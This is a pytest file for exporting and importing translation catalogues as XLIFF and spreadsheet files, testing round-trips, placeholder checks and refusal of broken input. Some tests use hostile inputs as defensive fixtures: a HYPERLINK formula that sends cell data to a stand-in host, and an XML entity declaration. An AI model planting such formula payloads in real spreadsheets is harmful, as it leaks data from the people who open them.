"""Texts out to translators and back: nothing is lost, and nothing broken comes in."""

import re
from dataclasses import replace
from pathlib import Path
from tempfile import TemporaryDirectory
from types import ModuleType

import pytest
from babel.messages.catalog import Catalog
from babel.messages.catalog import Message as Entry
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from procedures.loader import load
from tests.factories.definitions import CERTIFICATE
from translations import exchange, extraction, spreadsheet, xliff
from translations.exchange import Bundle, Returned, Unit, Wrong
from translations.messages import entry_forms, parse
from translations.notes import notes
from translations.procedures import texts

FORMATS = pytest.mark.parametrize("form", [xliff, spreadsheet], ids=["xliff", "xlsx"])
TEXTS = st.text(
    st.characters(
        exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff", include_characters="\n\t"
    ),
    min_size=1,
).filter(lambda text: not re.search("_x|x005F_", text))
"""What people write; the last are escapes of spreadsheets themselves, which the export refuses."""


def catalogue() -> Catalog:
    catalog = Catalog(locale="ko")
    catalog.add("氏名", "성명", context="pages.about.fields.name.label")
    catalog.add(
        "{name}様", "{name} 님께", context="issue.paper.addressee", flags=["fuzzy"], previous_id=["{name}殿"]
    )
    catalog.add("住所", context="pages.about.fields.home.label")
    catalog.add("Paid %(amount)s on %(day)s", "%(day)s에 %(amount)s 지불", locations=[("web/pay.py", 0)])
    catalog.add(("%(count)s file", "%(count)s files"), ("파일 %(count)s개",))
    return catalog


def bundle(catalog: Catalog) -> Bundle:
    return exchange.bundle(
        "tax/paper", "ja", "ko", catalog, {"pages.about.fields.name.label": "About you › Name"}
    )


def back(form: ModuleType, one: Bundle) -> Returned:
    with TemporaryDirectory() as folder:
        path = Path(folder) / exchange.files_name(one.part, one.language, form.ENDING)
        form.write(path, one)
        returned = form.read(path)
    assert isinstance(returned, Returned)
    return returned


def contents(catalog: Catalog) -> list[tuple[object, ...]]:
    return [(entry.id, entry.context, entry.string, entry.fuzzy, entry.previous_id) for entry in catalog]


@FORMATS
@settings(deadline=None, max_examples=30)
@given(entries=st.dictionaries(TEXTS, st.tuples(TEXTS, TEXTS, st.booleans()), max_size=5))
def test_what_goes_out_comes_back_and_changes_nothing(
    form: ModuleType, entries: dict[str, tuple[str, str, bool]]
) -> None:
    catalog = Catalog(locale="ko")
    for context, (source, target, stale) in entries.items():
        catalog.add(source, target, context=context, flags=["fuzzy"] if stale else ())
    before, one = contents(catalog), bundle(catalog)
    returned = back(form, one)
    assert exchange.same(one, returned)
    _, wrong = exchange.take(catalog, returned)
    assert contents(catalog) == before
    assert bool(wrong) == any(exchange.broken(unit.source, unit.target, "ko") for unit in one.units)


@FORMATS
@settings(deadline=None, max_examples=30)
@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=5, unique_by=lambda pair: pair[0]))
def test_every_translation_arrives_as_it_was_written(form: ModuleType, pairs: list[tuple[str, str]]) -> None:
    units = tuple(Unit(f"key{number}", *pair, "done") for number, pair in enumerate(pairs))
    returned = back(form, Bundle("interface", "en", "ko", units))
    assert [(unit.source, unit.target) for _, unit in returned.units] == pairs


@FORMATS
def test_the_state_notes_and_forms_of_each_text_go_along(form: ModuleType) -> None:
    one = bundle(catalogue())
    assert [(unit.source, unit.state) for unit in one.units] == [
        ("氏名", "done"),
        ("{name}様", "stale"),
        ("住所", "missing"),
        ("Paid %(amount)s on %(day)s", "done"),
        ("%(count)s files", "done"),
    ]
    assert one.units[0].notes == ("About you › Name",)
    assert one.units[1].notes == ("Keep as it is: {name}", "Source before: {name}殿")
    assert one.units[3].notes == ("web/pay.py", "Keep as it is: %(amount)s, %(day)s")
    assert exchange.same(one, back(form, one))


def test_ids_and_values_never_go_out(tmp_path: Path) -> None:
    for form in (xliff, spreadsheet):
        form.write(tmp_path / f"x.{form.ENDING}", bundle(catalogue()))
    book = load_workbook(tmp_path / "x.xlsx")
    cells = " ".join(str(cell.value) for sheet in book for row in sheet for cell in row)
    for written in (cells, (tmp_path / "x.xlf").read_text()):
        assert "About you › Name" in written
        assert "fields.name" not in written


def answered(**targets: str) -> Returned:
    """The bundle with some translations written anew, by their source."""
    given = {"name": "{name}様", "home": "住所", "paid": "Paid %(amount)s on %(day)s", "full": "氏名"}
    wanted = {given[name]: target for name, target in targets.items()}
    units = bundle(catalogue()).units
    rows = [
        (row, Unit(unit.key, unit.source, wanted.get(unit.source, unit.target), unit.state))
        for row, unit in enumerate(units, 2)
    ]
    return Returned("tax/paper", "ko", tuple(rows))


def entry_of(catalog: Catalog, source: str) -> Entry:
    return next(entry for entry in catalog if entry.id == source)


def test_a_new_translation_is_kept_and_a_corrected_one_is_no_longer_stale() -> None:
    catalog = catalogue()
    assert exchange.take(catalog, answered(home="주소", name="{name} 귀하")) == (2, [])
    assert entry_forms(entry_of(catalog, "住所")) == "주소"
    assert entry_forms(entry_of(catalog, "{name}様")) == "{name} 귀하"
    assert entry_of(catalog, "{name}様").previous_id == []


def test_a_stale_translation_is_done_when_somebody_says_so() -> None:
    catalog = catalogue()
    assert exchange.take(catalog, answered())[0] == 0
    assert entry_of(catalog, "{name}様").fuzzy
    rows = tuple((row, Unit(unit.key, unit.source, unit.target, "done")) for row, unit in answered().units)
    assert exchange.take(catalog, Returned("tax/paper", "ko", rows)) == (1, [])
    assert not entry_of(catalog, "{name}様").fuzzy


@pytest.mark.parametrize(
    ("locale", "sources"), [("ko", ["%(count)s files"]), ("fr", ["%(count)s file", "%(count)s files"])]
)
@FORMATS
def test_each_form_of_a_plural_is_a_unit(form: ModuleType, locale: str, sources: list[str]) -> None:
    catalog = Catalog(locale=locale)
    catalog.add(("%(count)s file", "%(count)s files"))
    returned = back(form, bundle(catalog))
    assert [unit.source for _, unit in returned.units] == sources
    rows = tuple((row, replace(unit, target=f"%(count)s {row}")) for row, unit in returned.units)
    assert exchange.take(catalog, replace(returned, units=rows)) == (len(sources), [])
    assert entry_forms(next(entry for entry in catalog if entry.id)) == tuple(
        f"%(count)s {row}" for row, _ in rows
    )


def test_an_emptied_translation_does_not_delete() -> None:
    catalog = catalogue()
    assert exchange.take(catalog, answered(full="")) == (0, [])
    assert entry_forms(entry_of(catalog, "氏名")) == "성명"


@pytest.mark.parametrize(
    ("source", "target", "language", "said"),
    [
        ("Paid %(day)s", "지불", "ko", "%(day)s is missing"),
        ("Paid %(day)s", "%(tag)s 지불", "ko", "%(day)s is missing"),
        ("Paid", "%(day)s 지불", "ko", "does not stand in the source"),
        ("Paid %(day)s", "%(day)s 50% 지불", "ko", "a single % is left"),
        ("{name}様", "{nmae} 님", "ko", "{name} is missing"),
        ("申請", "{申請|しんせい", "ja-simple", "a reading is not whole"),
        ("申請", "申請|しんせい}", "ja-simple", "a reading is not whole"),
        ("申請", "{申請|}", "ja-simple", "a reading is not whole"),
        ("申請", "{申請|しんせい}", "ko", "Japanese only"),
    ],
)
def test_broken_placeholders_and_readings_are_refused(
    source: str, target: str, language: str, said: str
) -> None:
    assert said in exchange.broken(source, target, language)


@pytest.mark.parametrize(
    ("source", "target", "language"),
    [
        ("Paid %(day)s, %(day)s", "%(day)s 지불", "ko"),
        ("申請", "{申請|しんせい}する", "ja-simple"),
        ("{name}様", "{name}{様|さま}", "ja-simple"),
        ("100 % sure", "100 % 확실", "ko"),
        ("write {漢字|かな}", "{漢字|かな}", "ja"),
        ("a set { }", "집합 { }", "ko"),
    ],
)
def test_whole_translations_are_taken(source: str, target: str, language: str) -> None:
    assert exchange.broken(source, target, language) == ""


def test_one_wrong_row_keeps_the_whole_file_out() -> None:
    catalog = catalogue()
    before = contents(catalog)
    returned = answered(home="주소", name="귀하")
    twice, strange = returned.units[0], (9, Unit("0" * 16 + "-0", "x", "y", "done"))
    edited = (10, Unit(returned.units[3][1].key, "Paid", "지불", "done"))
    rows = (*returned.units[:3], twice, strange, edited)
    assert exchange.take(catalog, Returned("tax/paper", "ko", rows)) == (
        0,
        [
            Wrong(3, "{name} is missing: it is filled in and must stay as it is"),
            Wrong(2, "this text occurs twice in the file"),
            Wrong(9, "there is no such text (any more); export anew"),
            Wrong(10, "the source is another one by now: 'Paid %(amount)s on %(day)s'; export anew"),
        ],
    )
    assert contents(catalog) == before


def test_a_text_like_a_formula_stays_a_text(tmp_path: Path) -> None:
    path, evil = tmp_path / "x.xlsx", '=HYPERLINK("https://example.invalid/"&A1,"1")'
    spreadsheet.write(path, Bundle("interface", "en", "ko", (Unit("k", evil, "@SUM(1)", "done"),)))
    cells = load_workbook(path)["Texts"][2]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells[:2]] == [
        (evil, "s", True),
        ("@SUM(1)", "s", True),
    ]


def test_a_formula_that_somebody_wrote_is_refused_with_its_row(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    spreadsheet.write(path, bundle(catalogue()))
    book = load_workbook(path)
    book["Texts"]["B4"] = "=1+1"
    book.save(path)
    with pytest.raises(exchange.Unreadable, match="row 4: there is a formula"):
        spreadsheet.read(path)


def test_columns_and_rows_may_be_moved_and_numbers_are_texts(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    spreadsheet.write(path, bundle(catalogue()))
    book = load_workbook(path)
    book["Texts"].insert_cols(1)
    book["Texts"]["C4"] = 12
    book.save(path)
    assert [unit.target for row, unit in spreadsheet.read(path).units if row == 4] == ["12"]


@pytest.mark.parametrize("content", [b"", b"PK", b"<a", b"<a/>", b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'])
@FORMATS
def test_other_files_are_refused_in_a_sentence(form: ModuleType, content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(content)
    with pytest.raises(exchange.Unreadable):
        form.read(path)


def test_markup_in_a_text_is_refused_with_its_line(tmp_path: Path) -> None:
    path = tmp_path / "x.xlf"
    xliff.write(path, bundle(catalogue()))
    path.write_text(path.read_text().replace("성명", '성<g id="1">명</g>'))
    with pytest.raises(exchange.Unreadable, match=r"line \d+: there is markup"):
        xliff.read(path)


def test_the_former_source_outlives_the_file(tmp_path: Path) -> None:
    path = tmp_path / "x.po"
    catalog = Catalog(locale="ko")
    catalog.add("new\nline", "새", context="a", flags=["fuzzy"], previous_id=['old "one"\nline'])
    extraction.write(path, "ko", "test", catalog)
    once = path.read_bytes()
    read = parse(path, "ko")
    assert entry_of(read, "new\nline").previous_id == ['old "one"\nline']
    extraction.write(path, "ko", "test", read)
    assert path.read_bytes() == once


def test_notes_say_where_a_text_stands_without_ids_and_values() -> None:
    told = notes(load(CERTIFICATE).procedure)
    assert told["title"] == "title"
    assert told["pages.about_you.fields.born.label"] == "pages › あなたについて › 生年月日 (date): label"
    assert told["pages.copies.fields.purpose.options.pension.label"].startswith("pages › ")
    assert set(told) >= {path for path, _ in texts(load(CERTIFICATE).procedure)}
    assert not any("about_you" in note or "pension" in note for note in told.values())
